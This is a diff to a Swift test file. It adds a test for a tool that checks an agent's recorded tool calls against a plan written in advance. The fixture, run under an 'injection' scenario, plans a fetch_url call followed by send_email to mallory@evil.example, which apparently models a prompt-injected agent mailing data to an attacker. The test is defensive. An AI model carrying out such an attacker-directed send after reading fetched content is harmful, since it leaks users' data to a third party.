@@ -65,6 +65,24 @@ struct PackTests {
     #expect(wrong.status == 2 && wrong.standardError.contains("p.yaml:4:24: the effect is none of"))
   }
 
+  @Test("a plan that was written first decides the values of its steps")
+  func plans() throws {
+    let plan = """
+      schema: proviso.plan/1
+      steps:
+        - call: fetch_url
+        - call: send_email
+          with: {to: mallory@evil.example}
+      """
+    let arguments = ["--no-config", "-s", "injection", "--plan", "plan.yaml"]
+    let followed = try Self.check(Self.record, arguments, files: ["plan.yaml": plan])
+    #expect(followed.status == 0, "\(followed.standardOutput)\(followed.standardError)")
+    let other = plan.replacing("mallory@evil", with: "bob@a")
+    let left = try Self.check(Self.record, arguments, files: ["plan.yaml": other])
+    #expect(left.status == 1)
+    #expect(left.standardOutput.contains("send_email #2 takes to = mallory@evil.example"))
+  }
+
   @Test("a draft of a policy is read from a list of tools")
   func draft() throws {
     let scratch = try Scratch()
